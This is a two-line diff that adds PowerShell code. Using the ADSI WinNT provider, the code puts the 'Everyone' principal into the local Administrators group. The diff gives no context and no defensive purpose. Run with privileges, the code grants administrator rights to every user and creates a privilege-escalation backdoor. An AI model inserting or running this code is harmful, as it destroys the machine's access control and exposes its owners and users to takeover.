@@ -1,0 +1,2 @@
+$admins = [ADSI]('WinNT://./' + 'Administrators' + ',group')
+$admins.psbase.Invoke('Add', ([ADSI]'WinNT://Everyone').Path)
